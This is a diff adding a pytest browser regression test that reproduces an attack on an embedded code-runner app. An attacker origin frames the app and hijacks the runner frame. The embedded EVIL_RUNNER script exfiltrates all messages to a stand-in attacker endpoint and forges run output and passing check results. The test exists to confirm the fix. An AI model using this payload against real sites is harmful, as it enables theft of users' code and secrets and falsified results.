@@ -1,0 +1,129 @@
+"""Attacks found on a running app, each reproduced in headless Chromium.
+
+Every test here failed before its fix. The "attacker" is a page on another
+loopback port (another origin, the ``evil`` fixture) that records every request
+reaching it.
+"""
+
+from __future__ import annotations
+
+import json
+import time
+
+import pytest
+
+pytestmark = pytest.mark.browser
+
+SECRET = "sk-live-123"
+
+
+def python(frame, code: str, **options) -> dict:
+    """window.seedui.run in ``frame`` (a page or a frame); the result without DOM handles."""
+    return frame.evaluate(
+        """async ([code, options]) => {
+            const {frame, ...r} = await window.seedui.run(Object.assign({language: 'python', code}, options));
+            return r;
+        }""",
+        [code, options],
+    )
+
+
+def wait_until(condition, seconds: float) -> bool:
+    """Poll ``condition`` (a state, never a duration) until it holds or ``seconds`` pass."""
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        if condition():
+            return True
+        time.sleep(0.05)
+    return False
+
+
+# ---- 1. a page that frames the app navigates the runner frame to its own page -----------------------------
+
+# What the attacker put in the runner's frame: it reports every message (and port message) it gets,
+# and answers runs with forged output and a forged "pass", the way the runner would.
+EVIL_RUNNER = """<!doctype html><meta charset="utf-8"><script>
+const report = (kind, data) => fetch('/report/' + kind, {method: 'POST', body: JSON.stringify(data)}).catch(() => {});
+report('loaded', {});
+const forge = (reply, d) => {
+  reply({type: 'seedui-run-event', runId: d.runId, nonce: d.nonce,
+         event: {kind: 'output', chunks: [['stdout', 'FORGED OUTPUT']]}});
+  reply({type: 'seedui-run-event', runId: d.runId, nonce: d.nonce,
+         event: {kind: 'done', durationMs: 1, result: {ok: true, check: {status: 'pass', detail: 'forged'}}}});
+};
+const listen = (port) => {
+  port.onmessage = (e) => {
+    report('port', e.data);
+    if (e.data && e.data.type === 'run') forge((m) => port.postMessage(m), e.data);
+  };
+};
+addEventListener('message', (e) => {
+  report('message', e.data);
+  e.ports.forEach(listen);
+  const d = e.data || {};
+  if (d.type === 'run') forge((m) => parent.postMessage(m, '*'), d);
+  if (d.type === 'ping') parent.postMessage({type: 'seedui-runner-pong', nonce: d.nonce, id: d.id}, '*');
+});
+// Claim to be a fresh runner, in the old and the new handshake's shape.
+const channel = new MessageChannel();
+listen(channel.port1);
+parent.postMessage({type: 'seedui-runner-hello'}, '*');
+parent.postMessage({type: 'seedui-runner-hello', secret: '', version: 'x', local: true, timeoutMs: 1}, '*',
+                   [channel.port2]);
+</script>"""
+
+
+def frame_the_app(browser, evil, app_url: str):
+    """The attacker's page framing the app; returns (attacker page, the app's frame)."""
+    evil.pages["/embed.html"] = f'<!doctype html><iframe src="{app_url}" width="900" height="700"></iframe>'
+    evil.pages["/runner.html"] = EVIL_RUNNER
+    page = browser.new_context().new_page()
+    page.goto(evil.url + "/embed.html")
+    page.wait_for_function("frames.length === 1")
+    app = next(f for f in page.frames if f.url.startswith(app_url))
+    app.wait_for_function("window.seedui && window.seedui.run")
+    return page, app
+
+
+@pytest.mark.parametrize("lock_frames", [True, False], ids=["frame-src-lock", "no-lock"])
+def test_framing_page_cannot_take_over_the_runner(browser, evil, sandbox_server, other_app, local_pyodide, lock_frames):
+    if not sandbox_server.fixture_page:
+        pytest.skip("needs the fixture app")
+    # The fixture app sends no frame-ancestors, so another origin may frame it.
+    app_url = sandbox_server.url if lock_frames else other_app(pyodide_dir=local_pyodide, lock_frames=False)
+    page, app = frame_the_app(browser, evil, app_url)
+    try:
+        assert python(app, "print('warm')")["stdout"] == "warm\n"
+        assert page.evaluate("frames[0].frames.length") == 1  # the runner frame
+        app.evaluate(
+            """() => {
+                window.__runner = document.querySelector('iframe.seedui-runner-frame');
+                const code = 'import time\\nprint("started")\\ntime.sleep(60)';
+                const onEvent = (e) => { if (e.type === 'stdout') window.__started = true; };
+                window.__slow = window.seedui.run({language: 'python', code, timeoutMs: 120000, onEvent})
+                    .then(({frame, ...r}) => r);
+            }"""
+        )
+        app.wait_for_function("window.__started === true", timeout=60_000)
+        # Browsers let an ancestor navigate a grandchild frame of another origin.
+        page.evaluate(f"frames[0].frames[0].location = {json.dumps(evil.url + '/runner.html')}")
+        # Wait until the attacker's page loaded there, or the app dropped the frame.
+        settled = wait_until(
+            lambda: bool(evil.hits("/report/loaded")) or not app.evaluate("window.__runner.isConnected"), 30
+        )
+        assert settled, "neither did the attacker's page load nor was the runner frame dropped"
+        # The visitor runs a secret, and checks a failing test.
+        result = python(app, f'SECRET_API_KEY = "{SECRET}"\nprint("genuine")')
+        assert result["stdout"] == "genuine\n" and result["ok"] is True, result
+        check = python(app, "x = 1", tests="assert False", mode="check", pristine=True)
+        assert check["check"]["status"] == "fail", check
+        received = [body for method, path, body in evil.hits("/report/") if path != "/report/loaded"]
+        assert received == [], received  # nothing reached the attacker: no code, no nonce, no port
+        assert not any(SECRET in body for _, _, body in evil.requests)
+        if lock_frames:
+            assert evil.hits("/runner.html") == []  # the page's frame-src refused the navigation itself
+        # The run that was in the frame when it was navigated ends with a message, not never.
+        slow = app.evaluate("window.__slow")
+        assert slow["ok"] is False and "navigated" in slow["error"], slow
+    finally:
+        page.context.close()
